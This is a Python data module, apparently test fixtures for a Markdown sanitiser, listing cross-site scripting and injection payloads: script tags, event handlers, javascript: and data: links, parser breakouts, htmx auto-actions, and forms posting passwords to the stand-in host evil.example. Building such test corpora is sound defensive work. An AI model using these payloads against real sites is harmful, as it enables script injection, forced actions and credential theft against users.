"""What people have written into Markdown to run a script, to load something from elsewhere or to act for the reader."""

SCRIPTS = r"""
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script\x20type="text/javascript">alert(1);</script>
<script/src=//evil.example/x.js>
<script>alert(1)//
<<script>alert(1);//<</script>
<svg><script>alert(1)</script></svg>
<svg><script href=https://evil.example/x.js /></svg>
<svg><script xlink:href="data:,alert(1)"></script></svg>
<math><script>alert(1)</script></math>
`<script>alert(1)</script>` and <script>alert(1)</script>
<style>*{background:url(https://evil.example/)}</style>
<style>@import '//evil.example/x.css';</style>
<svg><style>*{fill:url(https://evil.example/#x)}</style></svg>
<link rel=stylesheet href=https://evil.example/x.css>
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<base href="https://evil.example/">
<iframe src=https://evil.example/></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="data:text/html,<script>alert(1)</script>">
<applet code="Evil.class"></applet>
<frameset onload=alert(1)><frame src=//evil.example/></frameset>
<template><img src=x onerror=alert(1)></template>
<portal src=https://evil.example/>
<copy-code onclick=alert(1)></copy-code>
<theme-switch></theme-switch>
"""
HANDLERS = r"""
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"//
<img/src=`x`/onerror=alert(1)>
<img src="/static/x.png" onload=alert(1) width=1>
<img src=x:alert(alt) onerror=eval(src) alt=0>
<body onload=alert(1)>
<div onmouseover="alert(1)" onfocus=alert(1) tabindex=1 autofocus>x</div>
<details open ontoggle=alert(1)>x</details>
<p ONCLICK="alert(1)">x</p>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)></svg>#x"></use></svg>
<svg><image href=https://evil.example/x.png></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
<math href="javascript:alert(1)">x</math>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
<video poster=javascript:alert(1)><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<a href="#" onclick="alert(1)">x</a>
<p style="background:url(https://evil.example/)">x</p>
<div style="position:fixed;inset:0;background-image:url('//evil.example/')">x</div>
<table background="https://evil.example/x.png"><tr><td background=javascript:alert(1)>x</td></tr></table>
<svg><path fill="url(https://evil.example/#x)" d="M0 0"/></svg>
<svg><path fill="url( '//evil.example/#x' )" d="M0 0"/></svg>
<svg><path stroke='u\72l("https://evil.example/#x")' d="M0 0"/></svg>
<svg><line marker-end="URL(https://evil.example/#x)"/></svg>
"""
ADDRESSES = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&colon;alert(1))
[x](&#106;&#97;vascript:alert(1))
[x](&#x6A&#x61;vascript:alert(1))
[x](java&#x09;script:alert(1))
[x](java&NewLine;script:alert(1))
[x](&#1;javascript:alert(1))
[x](&#x20;&#x0B;javascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:text/html,<script>alert(1)</script>)
[x](blob:https://evil.example/1)
[x](file:///etc/passwd)
[x](view-source:javascript:alert(1))
[x](feed:javascript:alert(1))
[x](//evil.example/)
[x](/\evil.example/)
[x](\\\\evil.example/)
[x](&#9;//evil.example/)
[x](/&#9;/evil.example/)
[x](&#1;//evil.example/)
[x](javascript://%0aalert(1))
[x]( javascript:alert(1) "title")
[x](https://example.org/ "a\" onmouseover=alert(1) \"")
[x](https://example.org/"onmouseover="alert(1))
[x][evil] and ![x][evil]
<javascript:alert(1)>
<a href="javas&#99;ript:alert(1)">x</a>
<a href="java	script:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="https://example.org/" target=_blank ping=https://evil.example/ rel=opener>x</a>
<a href="/topics/a/" download="evil.exe">x</a>
![x](https://evil.example/pixel.png)
![x](data:image/svg+xml,<svg/onload=alert(1)>)
![x](javascript:alert(1))
![" onload="alert(1)](figures/good.svg)
![x](figures/../../secret.svg)
<img src="//evil.example/x.png"><img src="/\evil.example/x.png"><img srcset="https://evil.example/x.png 2x">
[[a|<img src=x onerror=alert(1)>]]
[[javascript:alert(1)]]
[[../../evil" onclick="alert(1)|x]]
"""
BREAKOUTS = r"""
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<svg><desc><![CDATA[</desc><img src=x onerror=alert(1)>]]></desc></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><a title="</style><img src=x onerror=alert(1)>">
<svg><title><a title="</title><img src=x onerror=alert(1)>"></a></title></svg>
<svg><title><style><a title="</style></title><img src=x onerror=alert(1)>">
<math><mi><table><tr><td><svg><desc><img src=x onerror=alert(1)></desc></svg></td></tr></table></mi></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<noscript><style></noscript><img src=x onerror=alert(1)></style>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>
<plaintext><img src=x onerror=alert(1)>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[><img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><?php echo "<img src=x onerror=alert(1)>" ?>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">
<table><caption><svg><title><table><caption></title><style><a id="</style><img src=x onerror=alert(1)>">
<b <script>alert(1)</script>0</b>
<a"onmouseover="alert(1)"href="#">x</a>
<x/onclick=alert(1)//>click<img src="</x><img src=x onerror=alert(1)>">
&lt;img src=x onerror=alert(1)&gt; and \<img src=x onerror=alert(1)\>
&#2;wzxhzdk:0&#3; and &#2;klzzwxh:0000&#3;
"""
ACTIONS = r"""
<form action=https://evil.example/><input name=password><button>x</button></form>
<form id=page><input name=csrfmiddlewaretoken></form>
<button form=mark formaction=https://evil.example/>x</button>
<select name=status><option>done</option></select>
<div hx-get="/accounts/logout/" hx-trigger="load">x</div>
<div hx-post="/topics/a/status/" hx-trigger=load hx-vals='{"status":"done"}'>x</div>
<div data-hx-post="/topics/a/status/" data-hx-trigger=load>x</div>
<a href="/x" hx-boost=true hx-on:click="alert(1)" hx-on::load="alert(1)">x</a>
<p data-hx-on:htmx:load="alert(1)">x</p>
<div hx-ext="evil" hx-target="#main" hx-swap-oob="true" hx-select-oob="#status">x</div>
<div id="status" hx-swap-oob="innerHTML">x</div>
<a id=main name=main>x</a><img id=notice name=body>
<span class="topic__head notice sticky">x</span>
<p is="theme-switch" slot=x part=y contenteditable popover>x</p>
<dialog open>Sign in again: <input></dialog>
"""
# What is Markdown's own or an extension's, over several lines.
BLOCKS = [
    "<b onclick\n=alert(1)>x</b>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "[evil]: javascript:alert(1)\n\n[x][evil] ![x][evil]",
    "[evil]: //evil.example/ \"' onclick='alert(1)\"\n\n[x][evil]",
    '*[HTML]: " onmouseover="alert(1)\n\nHTML',
    "x[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
    'x[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: y',
    "```html\n<script>alert(1)</script>\n```",
    "```python onclick=alert(1) style=x\nx\n```",
    '```{.python onclick="alert(1)" id="main"}\nx\n```',
    '``` {.python hl_lines="1" title="<script>alert(1)</script>"}\nx\n```',
    "## Heading {onclick=alert(1)}\n\n## <img src=x onerror=alert(1)>",
    "Heading {: onclick=alert(1) }\n---------",
    "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| [x](javascript:alert(1)) | <script>alert(1)</script> |",
    "/// note | <img src=x onerror=alert(1)>\n<script>alert(1)</script>\n///",
    "/// note | Title\n    attrs: {onclick: 'alert(1)', id: main, style: 'color:red', hx-get: /x}\n\nText\n///",
    "/// details | <script>alert(1)</script>\n    open: true\n    attrs: {ontoggle: 'alert(1)'}\n\nText\n///",
    "/// caption\n    attrs: {onclick: 'alert(1)'}\n\n<script>alert(1)</script>\n///",
    "/// html | script\nalert(1)\n///",
    "/// html | div[onclick='alert(1)']\nx\n///",
    "term\n: <script>alert(1)</script>\n: [x](javascript:alert(1))",
    "$\\text{<img src=x onerror=alert(1)>}$ and \\(<script>alert(1)</script>\\)",
    "$$\n\\href{javascript:alert(1)}{x} <img src=x onerror=alert(1)>\n$$",
    "\\[ </math><script>alert(1)</script> \\]",
    '<span class="arithmatex"><script>alert(1)</script></span>',
    "<div markdown=1 onclick=alert(1)>\n\n[x](javascript:alert(1))\n\n</div>",
    "<div>\n\n<script>\n\nalert(1)\n\n</script>\n\n</div>",
    "<p title='\n\n'><img src=x onerror=alert(1)>",
    "> <script>\n> alert(1)\n> </script>",
    "1. <script>alert(1)</script>\n\n    <img src=x onerror=alert(1)>",
    "<a href='\njavascript:alert(1)'>x</a>",
    "<a\nhref=javascript:alert(1)\n>x</a>",
]
LINES = [line for group in (SCRIPTS, HANDLERS, ADDRESSES, BREAKOUTS, ACTIONS) for line in group.strip().split("\n")]
PAYLOADS = [*LINES, *BLOCKS]
# Drawings of a roadmap, which go through the same gate.
DRAWINGS = [
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><a href='javascript:alert(1)'><text>x</text></a><style>@import '//evil.example/';</style></svg>",
    "<svg><image href='https://evil.example/x.png'/><use href='https://evil.example/x.svg#y'/></svg>",
    "<svg style='background:url(//evil.example/)'><rect fill='url(//evil.example/#x)' class='topic__head'/></svg>",
    "<svg></svg><img src=x onerror=alert(1)><form><input></form>",
    "<svg><animate attributeName=href to=javascript:alert(1) /><set onend=alert(1) /></svg>",
    "<!-- <svg> --><svg><title></title><desc></svg><script>alert(1)</script></desc></svg>",
]
